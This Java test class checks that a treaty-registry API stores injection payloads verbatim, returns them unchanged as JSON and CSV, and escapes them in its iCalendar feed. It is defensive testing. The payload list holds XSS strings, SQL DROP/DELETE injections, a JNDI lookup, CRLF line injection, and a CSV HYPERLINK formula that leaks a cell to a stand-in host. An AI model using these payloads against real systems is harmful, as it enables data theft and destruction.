package org.treatyregistry.api.badinput;

import biweekly.Biweekly;
import biweekly.ICalendar;
import biweekly.component.VEvent;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.treatyregistry.api.admin.ProjectionAdmin;
import org.treatyregistry.api.badinput.Wire.Reply;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.time.Duration;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Script, SQL, template and line-break payloads are valid text: every free-text field stores them verbatim, the JSON
 * API and the CSV exports give them back character for character, the iCalendar feed escapes them (RFC 5545 TEXT), and
 * the SQL does nothing (the tables are all still there, the event store grew by exactly the facts recorded).
 * HTML rendering (the desk pages) is not checked here.
 */
class InjectionRoundTripTest extends BadInputSuite {

    record Payload(String name, String state, String text) {
        @Override
        public String toString() {
            return name;
        }
    }

    static Stream<Payload> payloads() {
        return Stream.of(
                new Payload("script: </script><script>alert(1)</script>", "MLT", "</script><script>alert(1)</script>"),
                new Payload("SQL: '); DROP TABLE domain_event_entry;--", "ISL", "'); DROP TABLE domain_event_entry;--"),
                new Payload("SQL: ' OR '1'='1' --", "LVA", "x' OR '1'='1' --"),
                new Payload("SQL: \"; DELETE FROM participation_status; --", "LTU", "\"; DELETE FROM participation_status; SELECT \""),
                new Payload("HTML attribute break-out", "EST", "\" onmouseover=\"alert(1)\" x=\""),
                new Payload("HTML image with onerror", "SVN", "<img src=x onerror=alert(document.cookie)>&amp;&lt;"),
                new Payload("template and lookup expressions", "HRV", "${jndi:ldap://127.0.0.1:1389/a} #{7*7} [[${7*7}]] {{7*7}} <%= 7*7 %>"),
                new Payload("iCalendar and CSV line injection", "CYP", "line1\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT\r\n\"quoted\",next\nlast"),
                new Payload("CSV formula and iCalendar specials", "LUX", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\");\\ ,@SUM(1+1)"),
                new Payload("JSON break-out", "AND", "\"},\"state\":\"KAZ\",\"x\":{\"\\u0000"),
                new Payload("non-Latin, emoji and right-to-left override", "MCO", "Ωμέγα 漢字 😀 \u202Egnp.exe مرحبا"));
    }

    static Stream<Payload> importPayloads() {
        return Stream.of(
                new Payload("import: </script><script>alert(1)</script>", "SMR", "</script><script>alert(1)</script>"),
                new Payload("import: '); DROP TABLE domain_event_entry;--", "LIE", "'); DROP TABLE domain_event_entry;--"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("payloads")
    @Timeout(120)
    void isStoredVerbatimReadBackAndEscaped(Payload payload) {
        String s = payload.state();
        String p = payload.text();
        Set<String> tablesBefore = tables();
        long eventsBefore = registry.eventCount();
        int kazBefore = wire.get("/api/states/KAZ/calendar?includeClosed=true&size=1000").json().path("total").asInt();

        recordEveryTextField(s, p);

        assertThat(registry.eventCount()).as("exactly the facts recorded").isEqualTo(eventsBefore + 11);
        assertThat(tables()).as("every table is still there").isEqualTo(tablesBefore).contains("domain_event_entry", "participation_status");
        assertThat(wire.get("/api/states/KAZ/calendar?includeClosed=true&size=1000").json().path("total").asInt()).isEqualTo(kazBefore);

        // the JSON API
        JsonNode history = wire.get("/api/states/" + s + "/history?size=1000").json().path("items");
        assertThat(history).hasSize(11);
        for (JsonNode e : history) {
            if (!e.path("eventType").asText().equals("ReportingObligationOpenedEvent")) {
                assertThat(e.path("sourceSymbol").asText()).as(e.toString()).isEqualTo(p);
                assertThat(e.path("sourceLocator").asText()).isEqualTo(p);
                assertThat(e.path("sourceNote").asText()).isEqualTo(p);
            }
        }
        assertThat(byType(history, "ParticipationFactCorrectedEvent").path("correctionReason").asText()).isEqualTo(p);
        assertThat(byType(history, "ReservationEnteredEvent").path("summary").asText()).isEqualTo("Reservation '" + p + "' to CRPD " + p);
        assertThat(byType(history, "ReviewHeldEvent").path("summary").asText()).isEqualTo("Reviewed by the committee, " + p + ": " + p);
        assertThat(byType(history, "DueDateRevisedEvent").path("summary").asText()).endsWith(": " + p);
        assertThat(byType(history, "UprReviewHeldEvent").path("summary").asText()).isEqualTo("Universal Periodic Review, cycle 1, Working Group " + p);

        JsonNode participation = wire.get("/api/states/" + s + "/ratifications").json().path("items").get(0);
        JsonNode reservation = participation.path("reservations").get(0);
        assertThat(reservation.path("reference").asText()).isEqualTo(p);
        assertThat(reservation.path("article").asText()).isEqualTo(p);
        assertThat(reservation.path("text").asText()).isEqualTo(p);
        assertThat(participation.path("sources").toString()).contains(Wire.MAPPER.valueToTree(p).toString());

        JsonNode calendar = wire.get("/api/states/" + s + "/calendar?includeClosed=true&size=1000").json().path("items");
        JsonNode initial = item(calendar, "report:1");
        assertThat(initial.path("submittedSymbol").asText()).isEqualTo(p);
        assertThat(initial.path("reviewSession").asText()).isEqualTo(p);
        assertThat(item(calendar, "report:2").path("basis").asText()).isEqualTo(p);
        JsonNode followUp = item(calendar, "follow-up:CO " + p);
        assertThat(followUp.path("basis").asText()).isEqualTo("CO " + p);
        assertThat(followUp.path("label").asText()).isEqualTo("follow-up information on " + p + " of CO " + p);

        JsonNode upr = wire.get("/api/states/" + s + "/upr").json().path("items").get(0);
        assertThat(upr.path("workingGroupSession").asText()).isEqualTo(p);
        assertThat(upr.path("nationalReport").asText()).isEqualTo(p);
        assertThat(upr.path("outcomeReport").asText()).isEqualTo(p);
        assertThat(upr.path("midTermReport").asText()).isEqualTo(p);

        // the CSV exports: the same text, field for field
        List<JsonNode> historyCsv = csv("/api/states/" + s + "/history.csv");
        assertThat(historyCsv).as("one row per event: no row was injected").hasSize(history.size());
        for (JsonNode e : history) {
            JsonNode row = historyCsv.stream().filter(r -> r.path("globalIndex").asText().equals(e.path("globalIndex").asText())).findFirst().orElseThrow();
            for (String column : List.of("streamId", "eventType", "summary", "sourceSymbol", "sourceLocator", "sourceNote", "correctionReason")) {
                assertThat(row.path(column).asText()).as(column + " of " + e.path("eventType").asText()).isEqualTo(e.path(column).asText());
            }
        }
        List<JsonNode> ratificationsCsv = csv("/api/states/" + s + "/ratifications.csv");
        assertThat(ratificationsCsv).hasSize(1);
        assertThat(ratificationsCsv.get(0).path("reservations").asText()).isEqualTo("RESERVATION '" + p + "' " + p + " (2012-10-10)");
        List<String> sources = StreamSupport.stream(participation.path("sources").spliterator(), false).map(JsonNode::asText).toList();
        assertThat(ratificationsCsv.get(0).path("sources").asText()).isEqualTo(String.join("; ", sources));
        List<JsonNode> calendarCsv = csv("/api/states/" + s + "/calendar.csv?includeClosed=true");
        assertThat(calendarCsv).hasSize(calendar.size());
        for (JsonNode i : calendar) {
            JsonNode row = calendarCsv.stream().filter(r -> r.path("uid").asText().equals(i.path("uid").asText())).findFirst()
                    .orElseThrow(() -> new AssertionError("no CSV row " + i.path("uid")));
            for (String column : List.of("itemId", "label", "basis", "submittedSymbol", "reviewSession")) {
                assertThat(row.path(column).asText()).as(column + " of " + i.path("itemId").asText()).isEqualTo(i.path(column).asText());
            }
        }

        // the iCalendar feed: escaped, so that no text becomes a line, a property or an event of its own
        Reply icsReply = wire.get("/api/states/" + s + "/calendar.ics");
        assertThat(icsReply.status()).isEqualTo(200);
        String ics = icsReply.body();
        Pattern contentLine = Pattern.compile("^( |[A-Z][A-Z0-9-]*[;:]).*", Pattern.DOTALL);
        for (String line : ics.split("\r\n")) {
            assertThat(line).as("every line is a property or a folded continuation").matches(contentLine);
        }
        long toSend = StreamSupport.stream(calendar.spliterator(), false)
                .filter(i -> List.of("UPCOMING", "DUE_SOON", "OVERDUE", "REVIEWED_WITHOUT_REPORT").contains(i.path("status").asText()))
                .filter(i -> i.hasNonNull("dueLatest")).count();
        assertThat(Stream.of(ics.split("\r\n")).filter("BEGIN:VEVENT"::equals).count()).as("no event was injected").isEqualTo(toSend);
        ICalendar parsed = Biweekly.parse(ics).first();
        assertThat(parsed.getEvents()).hasSize((int) toSend);
        String unfolded = ics.replace("\r\n ", "");
        assertThat(unfolded).contains("\r\nX-TREATY-REGISTRY-BASIS:" + icsEscape(p) + "\r\n");
        assertThat(unfolded).contains("\r\nX-TREATY-REGISTRY-BASIS:" + icsEscape("CO " + p) + "\r\n");
        VEvent revised = event(parsed, "obligation:" + s + ":CRPD/report:2@treaty-registry");
        assertThat(revised.getDescription().getValue()).contains("Basis: " + icsText(p) + " (committee decision: confirmed)");
        VEvent followUpEvent = event(parsed, "obligation:" + s + ":CRPD/follow-up:CO " + icsText(p) + "@treaty-registry");
        assertThat(followUpEvent.getSummary().getValue()).isEqualTo("CRPD: follow-up information on " + icsText(p) + " of CO " + icsText(p) + " (" + s + ")");

        assertServing();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("importPayloads")
    @Timeout(120)
    void anImportStoresThemVerbatimToo(Payload payload) {
        String p = payload.text();
        Set<String> tablesBefore = tables();
        long eventsBefore = registry.eventCount();
        ObjectNode doc = Wire.MAPPER.createObjectNode().put("format", "treaty-registry-import/1").put("state", payload.state()).put("title", p);
        ArrayNode records = doc.putArray("records");
        records.addObject().put("id", p).put("fact", "signature").put("instrument", "CRPD").put("signedOn", "2007-03-30").set("source", source(p));
        records.addObject().put("id", p + " 2").put("fact", "ratification").put("instrument", "CRPD").put("action", "RATIFICATION")
                .put("depositedOn", "2012-10-10").set("source", source(p));
        records.addObject().put("id", p + " 3").put("fact", "reservation").put("instrument", "CRPD").put("reference", p).put("kind", "DECLARATION")
                .put("article", p).put("text", p).put("madeOn", "2012-10-10").set("source", source(p));

        Reply accepted = wire.post("/api/imports", doc.toString());
        assertThat(accepted.status()).as(accepted.body()).isEqualTo(202);
        JsonNode report = awaitAcceptedImport(accepted);
        assertThat(report.path("recorded").asInt()).as(report.toString()).isEqualTo(3);
        assertThat(report.path("results").get(0).path("id").asText()).isEqualTo(p);

        assertThat(registry.eventCount()).isEqualTo(eventsBefore + 4);
        // an import does not wait for the read models as the recording endpoints do
        assertThat(registry.bean(ProjectionAdmin.class).awaitCaughtUp(Duration.ofSeconds(30))).isTrue();
        assertThat(tables()).isEqualTo(tablesBefore);
        JsonNode history = wire.get("/api/states/" + payload.state() + "/history?size=1000").json().path("items");
        assertThat(byType(history, "InstrumentSignedEvent").path("sourceNote").asText()).isEqualTo(p);
        List<JsonNode> historyCsv = csv("/api/states/" + payload.state() + "/history.csv");
        assertThat(historyCsv).extracting(r -> r.path("sourceNote").asText()).contains(p);
        JsonNode reservation = wire.get("/api/states/" + payload.state() + "/ratifications").json().path("items").get(0).path("reservations").get(0);
        assertThat(reservation.path("text").asText()).isEqualTo(p);
        assertServing();
    }

    private void recordEveryTextField(String s, String p) {
        String participation = "/api/states/" + s + "/participations/CRPD/";
        String obligation = "/api/states/" + s + "/obligations/CRPD/";
        created(participation + "signature", fact().put("signedOn", "2007-03-30"), p);
        created(participation + "ratification", fact().put("action", "RATIFICATION").put("depositedOn", "2012-10-10"), p);
        created(participation + "reservations", fact().put("reference", p).put("kind", "RESERVATION").put("article", p).put("text", p)
                .put("madeOn", "2012-10-10"), p);
        ObjectNode report = fact().put("symbol", p).put("receivedOn", "2014-11-01");
        report.putObject("covers").put("from", 1).put("to", 1);
        created(obligation + "reports", report, p);
        ObjectNode review = fact().put("session", p).put("startedOn", "2016-03-01").put("endedOn", "2016-03-02").put("inAbsenceOfReport", false);
        review.putArray("reportSymbols").add(p);
        created(obligation + "reviews", review, p);
        ObjectNode co = fact().put("symbol", "CO " + p).put("adoptedOn", "2016-03-20").put("reviewSession", p);
        ObjectNode next = co.putObject("nextReport").put("due", "2030-01-01");
        next.putObject("covers").put("from", 2).put("to", 3);
        co.putArray("followUp").addObject().put("paragraphs", p).put("due", "2031-01-01");
        created(obligation + "concluding-observations", co, p);
        created(obligation + "due-date-revisions", fact().put("itemId", "report:2").put("newDue", "2030-06-01").put("reason", p).put("decisionSymbol", p), p);
        ObjectNode correction = fact().put("correctsSequence", 0).put("reason", p);
        correction.putObject("replacement").put("fact", "signature").put("signedOn", "2007-03-31");
        created(participation + "corrections", correction, p);
        created("/api/states/" + s + "/upr/reviews", fact().put("cycle", 1).put("workingGroupSession", p).put("reviewedOn", "2009-01-01")
                .put("nationalReport", p).put("outcomeReport", p), p);
        created("/api/states/" + s + "/upr/mid-term-reports", fact().put("cycle", 1).put("submittedOn", "2011-01-01").put("symbol", p), p);
    }

    private void created(String path, ObjectNode body, String p) {
        body.set("source", source(p));
        Reply reply = wire.post(path, body.toString());
        assertThat(reply.status()).as(path + ": " + reply.body()).isEqualTo(201);
    }

    private static ObjectNode fact() {
        return Wire.MAPPER.createObjectNode();
    }

    private static ObjectNode source(String p) {
        return Wire.MAPPER.createObjectNode().put("symbol", p).put("locator", p).put("note", p);
    }

    private Set<String> tables() {
        return new HashSet<>(registry.jdbc().queryForList(
                "SELECT LOWER(table_name) FROM information_schema.tables WHERE LOWER(table_schema) = 'public'", String.class));
    }

    private List<JsonNode> csv(String path) {
        Reply reply = wire.get(path);
        assertThat(reply.status()).as(path).isEqualTo(200);
        assertThat(reply.contentType()).startsWith("text/csv");
        CsvMapper mapper = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
        try (MappingIterator<JsonNode> it = mapper.readerFor(JsonNode.class).with(mapper.schemaWithHeader()).readValues(reply.body())) {
            return it.readAll();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static JsonNode byType(JsonNode history, String eventType) {
        return StreamSupport.stream(history.spliterator(), false).filter(e -> e.path("eventType").asText().equals(eventType)).findFirst()
                .orElseThrow(() -> new AssertionError("no " + eventType + " in " + history));
    }

    private static JsonNode item(JsonNode items, String itemId) {
        return StreamSupport.stream(items.spliterator(), false).filter(i -> i.path("itemId").asText().equals(itemId)).findFirst()
                .orElseThrow(() -> new AssertionError("no item " + itemId + " in " + items));
    }

    private static VEvent event(ICalendar ics, String uid) {
        return ics.getEvents().stream().filter(e -> e.getUid().getValue().equals(uid)).findFirst()
                .orElseThrow(() -> new AssertionError("no event " + uid));
    }

    /** What a TEXT value can hold: iCalendar has one line break, written \n. */
    private static String icsText(String s) {
        return s.replace("\r\n", "\n");
    }

    /** RFC 5545 section 3.3.11. */
    private static String icsEscape(String s) {
        return icsText(s).replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n");
    }
}
